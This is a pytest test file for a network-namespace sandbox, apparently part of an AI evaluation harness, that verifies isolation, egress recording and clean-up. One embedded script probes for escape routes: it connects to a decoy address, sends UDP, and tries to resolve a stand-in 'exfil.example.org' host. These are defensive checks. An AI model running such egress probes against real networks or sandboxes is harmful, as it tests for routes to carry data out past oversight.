"""The app namespace: verified before use, reachable from the harness, recording all egress."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.sandbox import Snapshot, assert_nothing_left, make_code_dir, require_isolation
from triz_ri_smart_ai_evaluator.sandbox import (
    AttemptedDestination,
    IsolationError,
    Network,
    SandboxError,
    _netns,
    open_sandbox,
    run_sandboxed,
    start_sandboxed,
    wait_for_port,
)
from triz_ri_smart_ai_evaluator.sandbox._nft import TABLE, TABLE_FAMILY
from triz_ri_smart_ai_evaluator.sandbox._tools import require_tools

DECOY = "198.51.100.7"  # TEST-NET-2; redirected to the sink inside the namespace


@pytest.fixture
def network() -> Iterator[Network]:
    require_isolation()
    before = Snapshot.take()
    with Network(app_port=8000) as net:
        yield net
    assert_nothing_left(before)


def test_network_is_verified_named_and_removed() -> None:
    require_isolation()
    before = Snapshot.take()
    with Network() as net:
        assert net.namespace.startswith("trz-app-")
        assert net.host_interface.startswith("trzh")
        assert net.app_interface.startswith("trza")
        assert net.namespace in Snapshot.take().netns
        assert net.attempted_destinations() == []  # the probe's own records are removed
        assert net.sink_connections() == ()
    assert_nothing_left(before)


def test_verify_refuses_when_the_ruleset_is_gone(network: Network) -> None:
    subprocess.run(network.in_namespace_argv([network.tools.nft, "delete", "table",
                                              TABLE_FAMILY, TABLE]), check=True)
    with pytest.raises(IsolationError, match=r"not verified"):
        network.verify_isolation()


PERMISSIVE = """table inet trz {
  set attempted { type ipv4_addr . inet_proto . inet_service; flags dynamic; }
  set allowed_tcp { type inet_service; }
  chain filter_out { type filter hook output priority 0; policy accept; }
}
"""


def test_open_refuses_and_cleans_up_when_the_ruleset_does_not_redirect(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    require_isolation()
    before = Snapshot.take()
    monkeypatch.setattr(_netns, "ruleset", lambda **_: PERMISSIVE)
    net = Network()
    with pytest.raises(IsolationError, match=r"not verified: .*no dnat rule to the sink"):
        net.open()
    assert not net.verified
    assert_nothing_left(before)


def test_a_closed_network_refuses_to_run_anything(tmp_path: Path) -> None:
    require_isolation()
    net = Network().open()
    net.close()
    with pytest.raises(IsolationError, match="not open and verified"):
        start_sandboxed(["/bin/true"], code_dir=make_code_dir(tmp_path), network=net)


def test_harness_reaches_http_server_through_the_veth(network: Network, tmp_path: Path) -> None:
    code = make_code_dir(tmp_path, {"index.html": "<h1>candidate</h1>\n"})
    argv = ["/venv/bin/python", "-m", "http.server", "--bind", "0.0.0.0", "8000"]
    with start_sandboxed(argv, code_dir=code, network=network, wall_timeout=20) as proc:
        wait_for_port(network.app_address, 8000, 10, process=proc)
        url = f"http://{network.app_address}:8000/index.html"
        with urllib.request.urlopen(url, timeout=5) as response:
            assert response.read() == b"<h1>candidate</h1>\n"
    assert proc.outcome is not None
    assert proc.outcome.ended == "killed"
    assert network.attempted_destinations() == []


EGRESS = """
import json, socket, sys
host = sys.argv[1]
out = {}
for name, dst in (("harness_other_port", (host, 9)), ("decoy", ("198.51.100.7", 80))):
    try:
        with socket.create_connection(dst, timeout=3) as s:
            s.sendall(name.encode())
        out[name] = "connected"
    except OSError as e:
        out[name] = repr(e)
try:
    socket.getaddrinfo("exfil.example.org", 443)
    out["dns"] = "resolved"
except OSError as e:
    out["dns"] = repr(e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("198.51.100.7", 5353))
    out["udp"] = "sent"
except OSError as e:
    out["udp"] = repr(e)
try:
    socket.create_connection(("::1", 80), timeout=1)
    out["ipv6"] = "connected"
except OSError as e:
    out["ipv6"] = repr(e)
print(json.dumps(out))
"""


def test_every_egress_attempt_is_recorded_and_none_leaves(network: Network,
                                                          tmp_path: Path) -> None:
    result = run_sandboxed(["/venv/bin/python", "-c", EGRESS, network.harness_host],
                           code_dir=make_code_dir(tmp_path), network=network, timeout=20)
    report = json.loads(result.stdout)
    # TCP "connects", but to the sink; UDP and DNS are refused after being recorded.
    assert report["harness_other_port"] == "connected"
    assert report["decoy"] == "connected"
    assert report["dns"] != "resolved"
    assert report["udp"] != "sent"
    assert report["ipv6"] != "connected"
    attempted = set(network.attempted_destinations())
    assert attempted == {
        AttemptedDestination(network.harness_host, "tcp", 9),
        AttemptedDestination(DECOY, "tcp", 80),
        AttemptedDestination(network.harness_host, "udp", 53),
        AttemptedDestination(DECOY, "udp", 5353),
    }
    received = sorted(c.received for c in network.sink_connections())
    assert received == [b"decoy", b"harness_other_port"]
    assert all(c.peer[0] == network.app_address for c in network.sink_connections())


def test_allowed_smtp_port_on_the_harness_host_is_reachable(network: Network,
                                                            tmp_path: Path) -> None:
    got: list[bytes] = []
    with socket.create_server((network.harness_host, 0)) as server:
        port = server.getsockname()[1]
        network.allow_tcp_port(port)

        def serve() -> None:
            server.settimeout(10)
            conn, _ = server.accept()
            with conn:
                got.append(conn.recv(100))

        thread = threading.Thread(target=serve)
        thread.start()
        code = ("import socket, sys\n"
                "socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).sendall(b'EHLO')")
        result = run_sandboxed(["/venv/bin/python", "-c", code, network.harness_host, str(port)],
                               code_dir=make_code_dir(tmp_path), network=network, timeout=20)
        thread.join(10)
    assert result.outcome.exit_code == 0, result.stderr
    assert got == [b"EHLO"]
    assert network.attempted_destinations() == []
    assert network.sink_connections() == ()


def test_wait_for_port_reaches_only_loopback_and_sandbox_addresses() -> None:
    with pytest.raises(Exception, match="only reaches"):
        wait_for_port("192.0.2.2", 80, 0.1)
    with pytest.raises(SandboxError, match="not reachable"):
        wait_for_port("127.0.0.1", 9, 0.1)


def test_gunicorn_flask_app_with_secrets_from_the_environment(tmp_path: Path) -> None:
    require_isolation()
    before = Snapshot.take()
    app = ("import os\nfrom flask import Flask, jsonify\n\n"
           "def create_app():\n    app = Flask(__name__)\n\n"
           "    @app.get('/health')\n    def health():\n"
           "        return jsonify(status='ok', user=os.environ.get('SMTP_USERNAME'))\n\n"
           "    return app\n")
    code = make_code_dir(tmp_path, {"feedback_app.py": app})
    with open_sandbox(app_port=8000) as box:
        assert box.isolation == "full"
        proc = box.start_gunicorn(code, "feedback_app:create_app()",
                                  env={"SMTP_USERNAME": "run-user"}, wall_timeout=30)
        wait_for_port(box.app_address, box.app_port, 20, process=proc)
        with urllib.request.urlopen(box.url("/health"), timeout=5) as response:
            assert json.load(response) == {"status": "ok", "user": "run-user"}
        assert box.attempted_destinations() == []
    assert proc.outcome is not None
    assert proc.outcome.ended == "killed"
    assert_nothing_left(before)


# -- a run killed before its clean-up --------------------------------------------------------

_OWNER = """
import sys, time
from triz_ri_smart_ai_evaluator.sandbox import Network
net = Network().open()
print(net.namespace, net.host_interface, flush=True)
time.sleep(600)
"""


def _killed_owner() -> tuple[str, str]:
    """A real process that opens a network and is SIGKILLed with it open: its namespace and
    host veth end, left behind."""
    child = subprocess.Popen([sys.executable, "-c", _OWNER], stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None
        namespace, host_interface = child.stdout.readline().split()
    finally:
        child.kill()
        child.wait(timeout=30)
    assert namespace in Snapshot.take().netns  # nothing of it was cleaned up
    assert Path(f"/sys/class/net/{host_interface}").exists()
    return namespace, host_interface


def test_a_killed_runs_namespace_is_swept_and_a_live_one_is_not() -> None:
    require_isolation()
    before = Snapshot.take()
    namespace, host_interface = _killed_owner()
    with Network() as live:
        # open() swept the dead run's namespace, veth and owner file ...
        assert namespace not in Snapshot.take().netns
        assert not Path(f"/sys/class/net/{host_interface}").exists()
        assert not Path(_netns.OWNER_DIR, namespace).exists()
        # ... and a sweep leaves a live run's alone
        assert _netns.sweep_abandoned(live.tools) == []
        assert live.namespace in Snapshot.take().netns
        live.verify_isolation()
    assert not Path(_netns.OWNER_DIR, live.namespace).exists()
    assert_nothing_left(before)


def test_sweep_names_what_it_removed() -> None:
    require_isolation()
    before = Snapshot.take()
    namespace, _ = _killed_owner()
    assert namespace in _netns.sweep_abandoned(require_tools())
    assert namespace not in Snapshot.take().netns
    assert_nothing_left(before)


def test_an_owner_file_whose_namespace_was_deleted_by_hand_is_swept() -> None:
    require_isolation()
    before = Snapshot.take()
    namespace, host_interface = _killed_owner()
    subprocess.run(["ip", "link", "del", host_interface], check=True)
    subprocess.run(["ip", "netns", "del", namespace], check=True)
    assert Path(_netns.OWNER_DIR, namespace).exists()
    assert namespace in _netns.sweep_abandoned(require_tools())
    assert not Path(_netns.OWNER_DIR, namespace).exists()
    assert_nothing_left(before)
